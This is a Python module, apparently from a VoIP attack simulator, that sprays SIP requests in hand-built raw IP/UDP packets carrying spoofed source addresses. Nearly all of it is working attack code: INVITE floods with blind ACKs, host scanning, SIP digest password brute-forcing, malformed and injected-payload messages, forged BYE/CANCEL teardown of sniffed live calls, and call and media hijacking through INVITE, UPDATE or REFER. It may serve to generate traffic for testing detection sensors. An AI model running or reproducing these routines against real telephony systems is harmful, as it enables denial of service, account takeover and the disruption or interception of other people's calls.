#!/usr/bin/python3
"""One launch of a stateless sprayer: whole IP packets from raw sockets, with the sources that the run names.
Relies on: launch.py, sniffer.py, payloads.py, styles.py (pools only); root.
Relied on by: attackers.py.

A builder of its own: it reads no reply, keeps nothing but a counter, derives every token from it, and writes the
headers in an order that one launch draws. Up to 10,000 sources; replies to them leave towards nobody.
"""
import hashlib
import ipaddress
import random
import re
import socket
import struct
import sys

import launch
import payloads
import sip
import sniffer
import styles

NAMES = (
    "Via From To Call-ID CSeq Max-Forwards Contact User-Agent Allow Supported Accept Organization Expires Event "
    "Authorization Refer-To Route Content-Type"
).split()


def checksum(data):
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF or 0xFFFF


def packet(source, destination, payload, ident, ttl):
    """An IP packet with a UDP datagram. Source and destination are (address, port)."""
    first, second = (ipaddress.ip_address(a).packed for a in (source[0], destination[0]))
    length = 8 + len(payload)
    segment = struct.pack(">HHHH", source[1], destination[1], length, 0) + payload
    cover = (
        first
        + second
        + struct.pack(
            ">HH" if len(first) == 4 else ">II", *((17, length) if len(first) == 4 else (length, 17))
        )
    )
    segment = segment[:6] + struct.pack(">H", checksum(cover + segment)) + payload
    if len(first) == 4:
        return (
            struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, ident, 0x4000, ttl, 17, 0)
            + first
            + second
            + segment
        )
    return struct.pack(">IHBB", 0x60000000, length, 17, ttl) + first + second + segment


class Spray(launch.Launch):
    def __init__(self, spec):
        super().__init__(spec)
        rng = self.rng
        family = socket.AF_INET6 if ":" in spec["ip"] else socket.AF_INET
        self.raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        self.sink = socket.socket(
            family, socket.SOCK_DGRAM
        )  # no ICMP error for what comes back to the own address
        self.sink.bind((spec["ip"], spec["port"]))
        self.sources = [tuple(x) for x in spec.get("sockets", [])] or [(spec["ip"], spec["port"])]
        self.secret = styles.alnum(rng, 8)
        agents = rng.choice(styles.FAMILIES)[2]
        self.optional = {
            "User-Agent": rng.choice(agents),
            "Allow": rng.choice(styles.ALLOW),
            "Supported": rng.choice(styles.SUPPORTED),
            "Accept": rng.choice(styles.ACCEPT),
            "Organization": rng.choice(["", "", "", "ACME"]),
        }
        order = [n for n in rng.choice(styles.ORDERS).split() if n != "Content-Length"]
        self.names = order + [n for n in NAMES if n not in order] + ["Content-Length"]
        self.hops, self.ttl = rng.choice(["70", "70", "30", "16"]), rng.choice([64, 64, 128, 57, 113])
        self.rport = rng.choice([";rport", ""])
        self.params = rng.choice(styles.CONTACT_PARAMS)
        self.lean = rng.random() < 0.8  # no Contact where none is needed
        self.forms = [rng.choice(p) for p in (styles.CALL_ID_FORMS, styles.BRANCH_FORMS, styles.TAG_FORMS)]
        self.acks = self.settings.get("acks", rng.random() < 0.5)

    def chance(self, what):
        """Random numbers that follow from the counter, so that no token has to be remembered."""
        return random.Random("%s %s %d" % (self.secret, what, self.count))

    def branch(self):
        return styles.make_branch(self.chance("branch"), self.forms[1])

    def tag(self, what):
        return styles.make_tag(self.chance(what), self.forms[2])

    def first_cseq(self, source):
        """Each source counts from somewhere else, as different phones do."""
        own = random.Random("%s %s" % (self.secret, source[0]))
        return own.choice([1, 1, 1, 2, 20, 101, 102, own.randrange(1, 60000)])

    def source(self):
        """In turn over all sources, in a scattered order."""
        return self.sources[(self.count * 7919) % len(self.sources)]

    def build(self, method, uri, source, user, to=None, **f):
        host = sip.bracket(source[0])
        body = f.get("body", "")
        call_id = f.get("call_id") or styles.make_call_id(self.chance("call"), self.forms[0], source[0])
        values = {
            "Via": "SIP/2.0/UDP %s:%d%s;branch=%s" % (host, source[1], self.rport, self.branch()),
            "From": "<%s>;tag=%s"
            % (f.get("me") or "sip:%s@%s" % (user, self.domain), f.get("tag") or self.tag("from")),
            "To": "<%s>%s" % (to or uri, ";tag=" + f["to_tag"] if f.get("to_tag") else ""),
            "Call-ID": call_id,
            "CSeq": "%d %s" % (f.get("cseq") or self.first_cseq(source), method),
            "Max-Forwards": self.hops,
            "Contact": "<sip:%s@%s:%d%s>" % (user, host, source[1], self.params),
            "Content-Length": str(len(body.encode())),
            **{n: v for n, v in self.optional.items() if v},
            **f.get("extra", {}),
        }
        if body:
            values["Content-Type"] = "text/plain" if method == "MESSAGE" else "application/sdp"
        if method in ("BYE", "CANCEL") and self.lean:
            del values["Contact"]
        if f.get("via"):
            values["Via"] = f["via"]
        lines = ["%s %s SIP/2.0" % (method, uri)] + [
            "%s: %s" % (n, values[n]) for n in self.names if n in values
        ]
        return "\r\n".join(lines) + "\r\n\r\n" + body

    def offer(self, source):
        kind = "IP6" if ":" in source[0] else "IP4"
        return "v=0\r\no=- %d 1 IN %s %s\r\ns=-\r\nc=IN %s %s\r\nt=0 0\r\nm=audio %d RTP/AVP 8 0\r\n" % (
            self.count + 10**6,
            kind,
            source[0],
            kind,
            source[0],
            10000 + 2 * (self.count % 20000),
        )

    def spray(self, data, source, dest=None):
        if not isinstance(data, bytes):
            data = data.encode("utf-8", "surrogateescape")
        self.note(source[0], source[1], data)
        dest = dest or self.server
        try:
            self.raw.sendto(packet(source, dest, data, self.rng.randrange(1, 65536), self.ttl), (dest[0], 0))
        except OSError:
            pass  # no route, or a full queue: what a sprayer never learns

    def acknowledge(self, invite, source, dest):
        """An ACK for the refusal that will come, without having seen it: the branch is what a server goes by."""
        head = invite.partition("\r\n\r\n")[0]
        head = re.sub(r"\r\n(Content-Type|Expires|Allow|Supported|Accept): [^\r\n]*", "", head)
        head = re.sub(r"\r\nContent-Length: \d+", "\r\nContent-Length: 0", head.replace(" INVITE", " ACK"))
        self.spray("ACK" + head[len("INVITE") :] + "\r\n\r\n", source, dest)

    def one(self, user, source, method=None, dest=None):
        """A request of the run's method to a user part."""
        method = method or self.method()
        host = self.domain if dest is None else sip.bracket(dest[0])
        uri, to, extra, body = "sip:%s%s" % (user + "@" if user else "", host), None, {}, ""
        caller = (
            self.rng.choice(self.users) if self.settings.get("identity") == "changing" else self.spec["user"]
        )
        if method == "REGISTER":
            uri, to, extra, caller = "sip:" + host, uri, {"Expires": "120"}, user
        elif method in ("SUBSCRIBE", "PUBLISH"):
            extra = {"Event": "presence", "Expires": "300"}
        elif method == "INVITE":
            body = self.offer(source)
        elif method == "MESSAGE":
            body = self.rng.choice(styles.MESSAGE_TEXTS)
        return self.build(method, uri, source, caller, to, extra=extra, body=body)

    # -- classes ----------------------------------------------------------------------------------------

    def flood(self):
        dest = tuple(self.settings["target"]) if self.settings.get("target") else None
        last = None  # what is acknowledged at the next turn, when its refusal has come
        while self.wait():
            source = self.source()
            data = self.one(self.victim(), source)
            self.spray(data, source, dest)
            if last:
                self.acknowledge(*last)
            last = (data, source, dest) if self.acks and data.startswith("INVITE") else None

    distributed_flood = enumeration = flood

    def honest(self):
        """A check of the own server from the own address, by somebody who wrote a sensor on raw sockets."""
        while self.wait():
            source = (self.spec["ip"], self.spec["port"])
            self.spray(self.one("", source, "OPTIONS"), source)

    def scan(self):
        s = self.settings
        probes = [
            (h, p, m)
            for h in s["hosts"]
            for p in s.get("ports", [5060])
            for m in s.get("methods", ["OPTIONS"])
        ]
        self.rng.shuffle(probes)
        for host, port, method in probes:
            if not self.wait():
                break
            source = self.source()
            self.spray(
                self.one(s.get("user", self.rng.choice(["", "100"])), source, method, (host, port)),
                source,
                (host, port),
            )

    def bruteforce(self):
        """Digests for nonces that nobody gave, each from another source."""
        accounts = self.spec["accounts"]
        for i, word in enumerate(self.settings["passwords"]):
            if not self.wait():
                break
            user, source = accounts[i % len(accounts)], self.source()
            uri, nonce = "sip:" + self.domain, styles.hexes(self.chance("nonce"), 32)
            response = hashlib.md5(("%s%s%s" % (user, nonce, word)).encode()).hexdigest()
            digest = 'Digest username="%s",realm="%s",nonce="%s",uri="%s",response="%s"' % (
                user,
                self.domain,
                nonce,
                uri,
                response,
            )
            self.spray(
                self.build(
                    "REGISTER",
                    uri,
                    source,
                    user,
                    "sip:%s@%s" % (user, self.domain),
                    extra={"Expires": "120", "Authorization": digest},
                ),
                source,
            )

    def malformed(self):
        while self.wait():
            source = self.source()
            self.spray(
                payloads.broken(self.rng, self.one(self.victim(), source), self.settings.get("kinds")), source
            )

    def injection(self):
        while self.wait():
            source, s = self.source(), self.settings
            where = self.rng.choice(s.get("fields") or payloads.PLACES)
            self.spray(
                payloads.place(
                    self.rng,
                    self.one(self.victim(), source),
                    payloads.hostile(self.rng, s.get("kinds")),
                    where,
                ),
                source,
            )

    def calls(self, early):
        """One call that was not attacked yet, at each turn of the run."""
        wire = sniffer.Wire(self.spec["pcap"], self.server, self.spec["strangers"], self.spec["far"])
        attacked = set()
        while self.wait():
            wire.look()
            found = [
                c
                for c in (wire.early() if early else wire.confirmed())
                if c.call_id not in attacked and c.caller[0] not in self.spec["avoid"]
            ]
            if not found:
                self.count -= 1
                continue
            attacked.add(found[0].call_id)
            yield found[0], self.source()

    def teardown(self):
        """Each forged BYE or CANCEL from another source; `guessed` ones leave the tags out."""
        kind = self.settings.get("kind", "bye")
        for call, source in self.calls(kind == "cancel"):
            if kind == "cancel":
                f = self.dialog(call)
                f.update(to_tag="", cseq=call.cseq, via=call.invite.get("Via"))
                self.spray(
                    self.build("CANCEL", call.invite.start.split(" ")[1], source, f.pop("user"), **f), source
                )
                continue
            f = self.dialog(call)
            f.update(cseq=call.cseq + self.rng.choice([1, 1, 3, 50]))
            if kind == "guessed":
                f.update(to_tag=self.tag("guess"), tag=self.tag("other"), extra={})
            self.spray(
                self.build(
                    "BYE", call.callee_uri if kind != "guessed" else f["to"], source, f.pop("user"), **f
                ),
                source,
            )

    def hijack(self):
        """Media or call to one address, in messages from many."""
        for call, source in self.calls(False):
            method = self.settings.get("takes") or self.rng.choice(["INVITE", "UPDATE", "REFER"])
            f = self.dialog(call)
            if method == "REFER":
                f["extra"]["Refer-To"] = "<sip:%s@%s>" % (styles.draw_number(self.rng), self.domain)
            else:
                f["body"] = self.offer(source)
            f["cseq"] = call.cseq + self.rng.choice([1, 2, 9])
            self.spray(self.build(method, call.callee_uri, source, f.pop("user"), **f), source)

    def dialog(self, call):
        me = sip.uri_of(call.invite.get("From"))
        routes = [r for r in reversed(call.routes)]
        return dict(
            me=me,
            user=re.sub(r"[^\w.+-]", "", sip.user_of(me)),
            to=sip.uri_of(call.invite.get("To")),
            tag=sip.tag_of(call.invite.get("From")),
            to_tag=sip.tag_of(call.reply.get("To")),
            call_id=call.call_id,
            extra={"Route": ", ".join(routes)} if routes else {},
        )


if __name__ == "__main__":
    sys.exit(launch.main("spoof_attacker", __doc__, lambda spec: getattr(Spray(spec), spec["class"])()))
